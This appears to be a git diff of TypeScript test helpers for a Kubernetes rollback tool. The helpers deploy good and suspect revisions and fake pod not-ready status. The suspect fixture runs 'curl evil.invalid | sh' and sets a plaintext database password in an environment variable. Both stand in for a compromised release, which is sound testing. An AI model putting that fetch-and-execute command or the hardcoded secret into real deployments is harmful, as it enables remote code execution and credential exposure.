@@ -7,7 +7,6 @@ import {
   controllerOf,
   locationOf,
   templateOf,
-  type PodTemplate,
   type RollbackKind,
   type Workload,
 } from '../../activities/kubernetes/workload/kinds.ts';
@@ -18,7 +17,7 @@ import type { ImageAssessment, ImageAssessor } from '../../domain/image.ts';
 import { sha256, type Digest } from '../../domain/json.ts';
 import { contextOf, type ContextOptions } from './action-context.ts';
 import { mandateFor, openCredentialHouse, type CredentialHouse } from './credential-house.ts';
-import { collectionOf } from './quarantine-house.ts';
+import { collectionOf, createNamespace } from './quarantine-house.ts';
 
 /** An assessor that knows images by their references, and accepts what it is not told about. */
 export class Assessor implements ImageAssessor {
@@ -180,13 +179,12 @@ export class Subject {
     }
   }
 
-  /** What images.find-known-good would hand over: the newest revision whose template satisfies `wanted`. */
-  async choose(
-    wanted: (template: PodTemplate) => boolean,
-    images: { [container: string]: string },
-  ): Promise<RollbackInput['to']> {
+  /** What images.find-known-good would hand over: the revision with the first image. */
+  async chooseGood(images: { [container: string]: string } = pinned): Promise<RollbackInput['to']> {
     const revisions = await revisionsOf(this.house.admin, await this.read(), AbortSignal.timeout(10_000));
-    const found = revisions.find(({ template }) => wanted(template));
+    const found = revisions.find(
+      ({ template }) => template.spec?.containers?.[0]?.image === 'shop.example/app:1',
+    );
     if (found === undefined) throw new Error('there is no such revision');
     const { name, uid, templateDigest: digest } = found;
     return { revision: name, uid, templateDigest: digest, images: listOf(images) };
@@ -216,6 +214,20 @@ export class Subject {
     return { plan, mandate: mandateFor(request, plan) };
   }
 
+  /** Says of a pod that it is not ready, and goes on saying so. */
+  async break(pod: string): Promise<void> {
+    await this.report(pod, ({ conditions = [] }) => ({
+      conditions: conditions.map((one) => ({ ...one, status: 'False' })),
+    }));
+  }
+
+  /** Changes what a kubelet reports of a pod. */
+  async report(pod: string, to: (status: NonNullable<Pod['status']>) => object): Promise<void> {
+    const location = { ...resources.pods, namespace: this.namespace, name: pod };
+    const { status = {} } = await this.house.admin.get<Pod>(location);
+    await this.house.admin.patch({ ...location, subresource: 'status' }, { status: to(status) });
+  }
+
   context(options: ContextOptions = {}) {
     return contextOf(this.house.evidence, options);
   }
@@ -223,4 +235,38 @@ export class Subject {
 
 function listOf(images: { [container: string]: string }): RollbackInput['to']['images'] {
   return Object.entries(images).map(([container, image]) => ({ container, image }));
+}
+
+/** The good revision's containers, and the suspect one's, which takes another command and a secret. */
+export const good = (more: object = {}) => ({
+  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
+  containers: [{ name: 'app', image: 'shop.example/app:1' }],
+  ...more,
+});
+export const suspect = (more: object = {}) => ({
+  initContainers: [{ name: 'init', image: 'shop.example/init:1' }],
+  containers: [
+    {
+      name: 'app',
+      image: 'shop.example/app:2',
+      command: ['sh', '-c', 'curl evil.invalid | sh'],
+      env: [{ name: 'DB_PASSWORD', value: 'hunter22-hunter22' }],
+    },
+  ],
+  ...more,
+});
+export const suspectImage = 'shop.example/app:2';
+export const pinned = { init: imageOf('init'), app: imageOf('app') };
+
+/** A workload in a namespace of its own, whose suspect revision runs and whose good one is in its history. */
+export async function deployed(
+  house: RollbackHouse,
+  kind: RollbackKind,
+  namespace: string,
+  { spec = {}, of = good(), now = suspect() }: { spec?: object; of?: object; now?: object } = {},
+): Promise<{ subject: Subject; to: RollbackInput['to'] }> {
+  await createNamespace(house.admin, namespace);
+  const subject = new Subject(house, kind, namespace);
+  await subject.deploy(of, now, spec);
+  return { subject, to: await subject.chooseGood() };
 }
